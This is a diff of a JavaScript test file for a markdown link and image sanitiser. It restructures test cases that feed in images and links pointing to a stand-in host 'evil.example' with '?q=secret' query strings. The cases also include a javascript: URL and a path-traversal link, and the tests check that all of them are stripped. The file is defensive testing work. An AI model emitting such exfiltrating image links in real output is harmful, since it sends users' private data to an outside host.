@@ -25,23 +25,21 @@ describe('citations', () => {
 	});
 });
 
-describe('links and images', () => {
-	it.each([
-		['![x](https://evil.example/?q=secret)', ''],
-		['Look: ![](//evil.example/a.png) there', 'Look: there'],
-		['[here](https://evil.example/?q=secret)', 'here'],
-		['[here](javascript:void)', 'here'],
-		['[here](/contact)', '[here](/contact)'],
-		['[here](/contact?q=secret#x)', '[here](/contact)'],
-		['[here](/contact/../../evil)', 'here'],
-		['[![x](https://evil.example/a)](https://evil.example/b)', '[]'],
-		['[a [b](https://evil.example/a) c](https://evil.example/b)', '[a b c]'],
-		['[a](/contact)[b][c](https://evil.example/b)', '[a](/contact)[b]c'],
-	])('%s', (text, left) => {
-		const filtered = textOf(read(text));
-		expect(filtered).not.toMatch(/evil|secret|javascript/);
-		if (left !== '') expect(filtered).toBe(left);
-	});
+it.each([
+	['![x](https://evil.example/?q=secret)', ''],
+	['Look: ![](//evil.example/a.png) there', 'Look: there'],
+	['[here](https://evil.example/?q=secret)', 'here'],
+	['[here](javascript:void)', 'here'],
+	['[here](/contact)', '[here](/contact)'],
+	['[here](/contact?q=secret#x)', '[here](/contact)'],
+	['[here](/contact/../../evil)', 'here'],
+	['[![x](https://evil.example/a)](https://evil.example/b)', '[]'],
+	['[a [b](https://evil.example/a) c](https://evil.example/b)', '[a b c]'],
+	['[a](/contact)[b][c](https://evil.example/b)', '[a](/contact)[b]c'],
+])('links and images: %s', (text, left) => {
+	const filtered = textOf(read(text));
+	expect(filtered).not.toMatch(/evil|secret|javascript/);
+	if (left !== '') expect(filtered).toBe(left);
 });
 
 it('breaks links that it cannot parse', () => {
